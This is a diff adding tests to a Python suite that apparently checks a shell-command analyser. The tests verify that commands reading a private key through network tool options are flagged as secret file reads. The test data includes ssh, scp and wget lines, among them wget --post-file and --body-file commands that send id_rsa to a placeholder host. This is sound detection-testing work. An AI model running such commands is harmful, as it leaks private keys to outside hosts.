@@ -328,3 +328,19 @@ def test_a_database_elsewhere_is_not_the_one_on_this_disk() -> None:
 
 def test_an_address_of_a_database_that_the_shell_may_expand_is_a_pattern() -> None:
     assert [o.kind for o in touched("database", glob("file:new.db?mode=ro"))] == [FS_READ, FS_WRITE]
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "ssh -i id_rsa h ls",
+        "ssh -F id_rsa h",
+        "scp -i id_rsa a h:b",
+        "wget --post-file=id_rsa https://x.example",
+        "wget --body-file id_rsa https://x.example",
+        "wget --load-cookies=id_rsa https://x.example",
+        "wget --private-key id_rsa https://x.example",
+    ],
+)
+def test_a_file_that_an_option_of_the_network_names_is_read(line: str) -> None:
+    assert [o.resource for o in operations(line) if o.kind is FS_READ and o.secret] == ["/code/app/id_rsa"]
